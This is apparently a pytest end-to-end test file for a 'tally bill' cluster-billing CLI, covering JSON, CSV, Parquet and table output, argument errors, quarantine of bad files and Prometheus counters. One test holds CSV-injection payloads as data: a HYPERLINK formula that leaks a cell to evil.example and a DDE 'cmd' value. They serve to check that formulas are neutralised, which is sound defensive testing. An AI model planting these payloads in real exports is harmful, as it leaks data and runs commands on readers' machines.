"""``tally bill`` end to end: every output format, every error path, the progress bar."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from telemetry.billing.writers import SCHEMAS
from tests.support.cli import stderr_on_a_terminal, tally
from tests.support.tables import cpu_table, gpu_table, job_table, write_dataset

INVENTORY = """
currency = "CNY"
[[pool]]
name = "gpu-own"
kind = "gpu"
ownership = "own"
nodes = ["g*"]
cost_per_unit_hour = 6.5
price_per_unit_hour = 12.0
[[pool]]
name = "cpu-leased"
kind = "cpu"
ownership = "leased"
nodes = ["c*", "g*"]
cost_per_unit_hour = 0.02
price_per_unit_hour = 0.05
"""


@pytest.fixture
def dataset(tmp_path: Path) -> tuple[Path, Path]:
    root = tmp_path / "ds"
    times = [float(t) for t in range(0, 3 * 3600, 30)]
    write_dataset(root, "cpu", cpu_table("c1", times, cpus=32, busy_share=0.5))
    write_dataset(root, "cpu", cpu_table("g1", times, cpus=64, busy_share=0.1))
    write_dataset(root, "gpu", gpu_table("g1", "GPU-1", 0, times, util=0.8, job_id="101"))
    write_dataset(root, "gpu", gpu_table("g1", "GPU-2", 1, times, util=0.0, job_id=None), "part-1")
    write_dataset(root, "job", job_table("g1", "101", times, user="bob", account="lab-x"))
    write_dataset(
        root, "job", job_table("c1", "102", times, user="eve", account="corp-y", gpus=0.0)
    )
    inventory = tmp_path / "inv.toml"
    inventory.write_text(INVENTORY)
    return root, inventory


def test_json_to_stdout_and_file_are_the_same_bytes(
    dataset: tuple[Path, Path], tmp_path: Path
) -> None:
    root, inv = dataset
    out = tmp_path / "bill.json"
    a = tally("bill", str(root), "--inventory", str(inv))
    b = tally("bill", str(root), "--inventory", str(inv), "--out", str(out))
    assert a.returncode == b.returncode == 0, a.stderr + b.stderr
    assert out.read_text() == a.stdout
    bill = json.loads(a.stdout)
    assert set(bill) == {"currency", "timezone", "pools", "tenants", "jobs", "input"}
    assert (bill["currency"], bill["timezone"]) == ("CNY", "UTC")
    assert bill["input"] == {
        "files": 6,
        "rows": 6 * 360,
        "rows_skipped": 0,
        "files_quarantined": 0,
        "rows_out_of_range": {},
        "reconciliation": None,
    }
    gpu = [p for p in bill["pools"] if p["pool"] == "gpu-own"]
    assert [p["window_start"] for p in gpu] == [
        "2026-09-01T00:00:00Z", "2026-09-01T01:00:00Z", "2026-09-01T02:00:00Z",
    ]  # fmt: skip
    # Second hour: two GPUs all hour, one allocated (1 GPU) at 80 %.
    hour = gpu[1]
    assert hour["capacity_unit_hours"] == 2.0 and hour["allocated_unit_hours"] == 1.0
    assert hour["busy_ratio"] == pytest.approx(0.4) and hour["allocation_ratio"] == 0.5
    assert hour["cost"] == 13.0 and hour["revenue"] == 12.0 and hour["idle_cost"] == 6.5
    assert hour["unit_cost"] == 13.0 and hour["gross_margin_ratio"] == pytest.approx(-1 / 12)
    tenants = {(t["pool"], t["tenant"]) for t in bill["tenants"]}
    assert tenants == {("gpu-own", "lab-x"), ("cpu-leased", "lab-x"), ("cpu-leased", "corp-y")}


def test_csv_and_parquet_write_three_files_matching_json(
    dataset: tuple[Path, Path], tmp_path: Path
) -> None:
    root, inv = dataset
    bill = json.loads(tally("bill", str(root), "--inventory", str(inv)).stdout)
    assert (
        tally(
            "bill",
            str(root),
            "--inventory",
            str(inv),
            "--format",
            "csv",
            "--out",
            str(tmp_path / "b.csv"),
        ).returncode
        == 0
    )
    assert (
        tally(
            "bill",
            str(root),
            "--inventory",
            str(inv),
            "--format",
            "parquet",
            "--out",
            str(tmp_path / "b"),
        ).returncode
        == 0
    )
    for kind, schema in SCHEMAS.items():
        with open(tmp_path / f"b-{kind}.csv", newline="") as f:
            rows = list(csv.DictReader(f))
        assert list(rows[0]) == schema.names
        assert len(rows) == len(bill[kind])
        for got, want in zip(rows, bill[kind], strict=True):
            assert got["currency"] == "CNY"
            for key, value in want.items():
                if isinstance(value, float):
                    assert float(got[key]) == value, key
                else:
                    assert got[key] == ("" if value is None else str(value)), key
        table = pq.read_table(tmp_path / f"b-{kind}.parquet")
        assert table.schema.equals(schema)
        for got, want in zip(table.to_pylist(), bill[kind], strict=True):
            assert got["window_start"].strftime("%Y-%m-%dT%H:%M:%SZ") == want["window_start"]
            assert {k: v for k, v in got.items() if not k.startswith("window")} == {
                **{k: v for k, v in want.items() if not k.startswith("window")},
                "currency": "CNY",
            }


def test_table_format_is_for_people(dataset: tuple[Path, Path]) -> None:
    root, inv = dataset
    result = tally(
        "bill", str(root), "--inventory", str(inv), "--format", "table", "--window", "1d"
    )
    assert result.returncode == 0, result.stderr
    text = result.stdout
    assert text.index("POOLS") < text.index("TENANTS")
    assert "CNY" in text and "gpu-own" in text and "lab-x" in text
    assert "input: 6 files" in text


def test_progress_bar_only_on_a_terminal(dataset: tuple[Path, Path]) -> None:
    root, inv = dataset
    plain = tally("bill", str(root), "--inventory", str(inv))
    assert "billing:" not in plain.stderr
    seen = stderr_on_a_terminal("bill", str(root), "--inventory", str(inv))
    assert b"billing: chunk 1/1" in seen


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--window", "30s"], "at least 60"),
        (["--window", "90.5s"], "whole number of seconds"),
        (["--from", "yesterday"], "--from: 'yesterday' is not an ISO-8601"),
        (["--from", "2026-09-02", "--to", "2026-09-01"], "the range is empty"),
        (["--format", "csv"], "give --out PREFIX"),
        (["--format", "xml"], "invalid choice"),
        (["--backend", "tpu"], "invalid choice"),
        (["--out", "/nonexistent/dir/bill.json"], "does not exist"),
    ],
)
def test_bad_arguments_exit_2(dataset: tuple[Path, Path], extra: list[str], message: str) -> None:
    root, inv = dataset
    result = tally("bill", str(root), "--inventory", str(inv), *extra)
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and message in result.stderr, result.stderr


def test_cupy_where_it_cannot_run_is_exit_2(dataset: tuple[Path, Path]) -> None:
    from kernels.backend import BackendError, get_namespace

    try:
        get_namespace("cupy")
    except BackendError:
        pass
    else:
        pytest.skip("CuPy is usable here (tests/test_gpu_bill.py covers it)")
    root, inv = dataset
    result = tally("bill", str(root), "--inventory", str(inv), "--backend", "cupy")
    assert result.returncode == 2
    assert result.stderr.startswith("tally: error: backend cupy: ")
    assert result.stderr.count("\n") == 1, result.stderr
    assert tally("bill", str(root), "--inventory", str(inv), "--backend", "auto").returncode == 0


def test_inventory_errors_exit_2_naming_file(dataset: tuple[Path, Path], tmp_path: Path) -> None:
    root, _ = dataset
    bad = tmp_path / "bad.toml"
    bad.write_text('[[pool]]\nname = "x"\nkind = "gpu"\n')
    result = tally("bill", str(root), "--inventory", str(bad))
    assert result.returncode == 2 and f"inventory {bad}: pool[0]: missing key" in result.stderr
    missing = tally("bill", str(root))
    assert missing.returncode == 2 and "--inventory" in missing.stderr


def test_unused_glob_is_a_warning(dataset: tuple[Path, Path], tmp_path: Path) -> None:
    root, _ = dataset
    inv = tmp_path / "inv2.toml"
    inv.write_text(INVENTORY.replace('nodes = ["g*"]', 'nodes = ["g*", "h100-*"]'))
    result = tally("bill", str(root), "--inventory", str(inv))
    assert result.returncode == 0
    assert "tally: warning:" in result.stderr and "'h100-*' matches no node" in result.stderr


def test_files_of_another_layout_are_quarantined_and_the_bill_goes_on(
    dataset: tuple[Path, Path],
) -> None:
    """SPEC §7: a foreign file (not tally's columns at all) and one lacking a required column
    (another writer's layout) are moved aside, named with the column on stderr, and counted;
    the bill is the bill of the other files."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    root, inv = dataset
    before = json.loads(tally("bill", str(root), "--inventory", str(inv)).stdout)
    times = [0.0, 30.0]
    old = write_dataset(
        root, "cpu", cpu_table("c9", times).drop_columns(["idle_seconds"]), name="old"
    )
    foreign = next((root / "gpu").rglob("*.parquet")).parent / "foreign.parquet"
    pq.write_table(pa.table({"a": [1, 2, 3]}), foreign)
    result = tally("bill", str(root), "--inventory", str(inv))
    assert result.returncode == 0, result.stderr
    assert str(old) in result.stderr and "'idle_seconds'" in result.stderr
    assert str(foreign) in result.stderr and "'time'" in result.stderr
    after = json.loads(result.stdout)
    assert after["input"]["files_quarantined"] == 2
    assert {k: v for k, v in after.items() if k != "input"} == {
        k: v for k, v in before.items() if k != "input"
    }
    assert not old.exists() and not foreign.exists()
    assert sorted(p.name for p in (root / "quarantine").rglob("*.parquet")) == [
        foreign.name,
        old.name,
    ]


def test_corrupt_files_are_quarantined_and_the_bill_goes_on(dataset: tuple[Path, Path]) -> None:
    root, inv = dataset
    before = json.loads(tally("bill", str(root), "--inventory", str(inv)).stdout)
    part = next((root / "gpu").rglob("*.parquet")).parent
    (part / "torn.parquet").write_bytes(b"PAR1" + b"\x00" * 50)
    (part / "notes.parquet").write_text("hello")
    after = json.loads(tally("bill", str(root), "--inventory", str(inv)).stdout)
    assert after["input"]["files_quarantined"] == 2
    assert {k: v for k, v in after.items() if k != "input"} == {
        k: v for k, v in before.items() if k != "input"
    }
    assert sorted(p.name for p in (root / "quarantine").rglob("*.parquet")) == [
        "notes.parquet",
        "torn.parquet",
    ]


def test_replay_pool_counters_equal_the_bill_summed(
    dataset: tuple[Path, Path], promtool: str
) -> None:
    from prometheus_client.parser import text_string_to_metric_families

    from tests.support.promtool import promtool_check

    root, inv = dataset
    bill = json.loads(tally("bill", str(root), "--inventory", str(inv)).stdout)
    replay = tally("replay", str(root), "--once", "--inventory", str(inv))
    assert replay.returncode == 0, replay.stderr
    assert promtool_check(promtool, replay.stdout.encode()).returncode == 0
    samples = {
        (s.name, tuple(sorted(s.labels.items()))): s.value
        for f in text_string_to_metric_families(replay.stdout)
        for s in f.samples
    }
    for pool, kind in {(p["pool"], p["kind"]) for p in bill["pools"]}:
        rows = [p for p in bill["pools"] if (p["pool"], p["kind"]) == (pool, kind)]
        for field in ("capacity", "allocated", "busy"):
            key = (f"tally_pool_{field}_unit_seconds_total", (("kind", kind), ("pool", pool)))
            assert samples[key] == pytest.approx(sum(r[f"{field}_unit_hours"] for r in rows) * 3600)
    kinds = {p["pool"]: p["kind"] for p in bill["pools"]}
    for pool, tenant in {(t["pool"], t["tenant"]) for t in bill["tenants"]}:
        rows = [t for t in bill["tenants"] if (t["pool"], t["tenant"]) == (pool, tenant)]
        labels = (("currency", "CNY"), ("kind", kinds[pool]), ("pool", pool), ("tenant", tenant))
        # the bill rounds each line to the cent, the counter does not
        assert samples[("tally_tenant_charge_total", labels)] == pytest.approx(
            sum(r["charge"] for r in rows), abs=0.005 * len(rows)
        )
        busy = samples[("tally_tenant_busy_unit_seconds_total", labels[1:])]
        assert busy == pytest.approx(sum(r["busy_unit_hours"] for r in rows) * 3600)
    assert any(t["busy_unit_hours"] for t in bill["tenants"]), "the dataset has busy tenants"


def test_replay_counts_gaps_by_the_inventory_alone(tmp_path: Path) -> None:
    """SPEC §3: max_gap_seconds is the inventory's. A 90 s interval under an inventory's 120 s
    counts for the GPU's own counter as for its pool's (replay's 60 s default counted it for
    the pool alone); a --max-gap that differs is a one-line usage error."""
    root = tmp_path / "ds"
    times = [0.0, 30.0, 60.0, 150.0, 180.0]  # one interval of 90 s
    write_dataset(root, "gpu", gpu_table("n1", "GPU-a", 0, times, util=1.0))
    inv = tmp_path / "inv.toml"
    inv.write_text(
        'max_gap_seconds = 120\n[[pool]]\nname = "p1"\nkind = "gpu"\nownership = "own"\n'
        'nodes = ["n*"]\ncost_per_unit_hour = 1.0\nprice_per_unit_hour = 2.0\n'
    )
    for extra in ([], ["--max-gap", "120s"]):
        result = tally("replay", str(root), "--once", "--inventory", str(inv), *extra)
        assert result.returncode == 0, result.stderr
        lines = result.stdout.splitlines()
        assert 'tally_gpu_busy_seconds_total{gpu="0",node="n1",uuid="GPU-a"} 180.0' in lines
        assert 'tally_pool_busy_unit_seconds_total{kind="gpu",pool="p1"} 180.0' in lines
    # without an inventory, 60 s: the 90 s interval is a gap
    alone = tally("replay", str(root), "--once")
    assert 'tally_gpu_busy_seconds_total{gpu="0",node="n1",uuid="GPU-a"} 90.0' in (
        alone.stdout.splitlines()
    )
    clash = tally("replay", str(root), "--once", "--inventory", str(inv), "--max-gap", "90s")
    assert clash.returncode == 2 and clash.stdout == ""
    (line,) = clash.stderr.strip().splitlines()
    assert "max-gap 90s differs from max_gap_seconds = 120" in line and str(inv) in line


def test_daemon_with_inventory_exports_pool_counters(tmp_path: Path) -> None:
    from tests.support.daemon import scrape_daemon

    inv = tmp_path / "inv.toml"
    # The pool declares 100,000 cores across the cluster: no one node's counter may carry them,
    # or summing the nodes' counters (SPEC §6) counts the pool once per node.
    inv.write_text(
        '[[pool]]\nname = "this-node"\nkind = "cpu"\nownership = "own"\nnodes = ["inv-node"]\n'
        "cost_per_unit_hour = 0.01\nprice_per_unit_hour = 0.02\ncapacity_units = 100000\n"
    )
    text = scrape_daemon(
        tmp_path / "data", "inv-node", "--inventory", str(inv), settle=1.5
    ).decode()
    line = next(
        x for x in text.splitlines() if x.startswith("tally_pool_capacity_unit_seconds_total")
    )
    assert 'pool="this-node"' in line and 'kind="cpu"' in line
    cpus = next(float(x.split()[-1]) for x in text.splitlines() if x.startswith("tally_cpus{"))
    # About 1.5 s of rounds at this node's `cpus` cores (the declared 100,000 would be 10^5 a
    # second); generous bounds for a loaded CI machine.
    assert 0.2 * cpus <= float(line.split()[-1]) <= 3.0 * cpus


def test_energy_never_measured_is_null_not_zero(tmp_path: Path) -> None:
    """A pool-window whose capacity rows carry no energy reading (RAPL unreadable) has no
    measured energy: null in JSON and '-' in the table, while a measured 0 stays 0."""
    root = tmp_path / "ds"
    times = [float(t) for t in range(0, 7200, 30)]
    unmeasured = cpu_table("c-vm", times)
    unmeasured = unmeasured.set_column(
        unmeasured.schema.get_field_index("energy_joules"),
        "energy_joules",
        pa.nulls(len(times), pa.float64()),
    )
    write_dataset(root, "cpu", unmeasured)
    inv = tmp_path / "inv.toml"
    inv.write_text(INVENTORY)
    bill = json.loads(tally("bill", str(root), "--inventory", str(inv)).stdout)
    assert bill["pools"] and all(p["energy_kwh"] is None for p in bill["pools"])
    table = tally("bill", str(root), "--inventory", str(inv), "--format", "table").stdout
    pool_lines = [line for line in table.splitlines() if "cpu-leased" in line]
    assert pool_lines and all(" - " in line and "0.000" not in line for line in pool_lines)
    write_dataset(root, "cpu", cpu_table("c-metal", times))  # RAPL readable there
    mixed = json.loads(tally("bill", str(root), "--inventory", str(inv)).stdout)
    assert all(p["energy_kwh"] is not None and p["energy_kwh"] > 0 for p in mixed["pools"])


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    """User, tenant and job names come from the tenants' environments: '=HYPERLINK(…)' must not
    reach a finance team's spreadsheet as a formula (OWASP CSV injection)."""
    root = tmp_path / "ds"
    times = [float(t) for t in range(0, 600, 30)]
    formula = '=HYPERLINK("https://evil.example/?"&A1,"invoice")'
    job = job_table("g1", "@SUM(1+1)", times)
    job = job.set_column(
        job.schema.get_field_index("user"), "user", pa.array([formula] * len(times))
    )
    job = job.set_column(job.schema.get_field_index("account"), "account",
                         pa.array(["+cmd|' /C calc'!A0"] * len(times)))  # fmt: skip
    write_dataset(root, "job", job)
    write_dataset(root, "gpu", gpu_table("g1", "GPU-1", 0, times, util=0.5, job_id="@SUM(1+1)"))
    inv = tmp_path / "inv.toml"
    inv.write_text(INVENTORY)
    out = tmp_path / "bill"
    result = tally("bill", str(root), "--inventory", str(inv), "--format", "csv", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "bill-jobs.csv").read_text())))
    assert rows and all(r["user"] == "'" + formula for r in rows)
    assert all(r["job_id"] == "'@SUM(1+1)" and r["tenant"].startswith("'+") for r in rows)
    tenants = list(csv.DictReader(io.StringIO((tmp_path / "bill-tenants.csv").read_text())))
    assert tenants and all(r["tenant"][:1] not in "=+-@" for r in tenants)
    assert all(float(r["charge"]) >= 0 for r in tenants), "numbers stay numbers"


def test_an_empty_selection_says_where_the_samples_are(dataset: tuple[Path, Path]) -> None:
    root, inv = dataset
    result = tally("bill", str(root), "--inventory", str(inv), "--from", "2030-01-01")
    assert result.returncode == 0
    assert json.loads(result.stdout)["pools"] == []
    assert "no sample between 2030-01-01T00:00:00Z and open" in result.stderr
    assert "the dataset holds samples from 2026-09-01T00:00:00Z to 2026-09-01" in result.stderr
    inside = tally("bill", str(root), "--inventory", str(inv), "--from", "2026-09-01")
    assert "no sample" not in inside.stderr
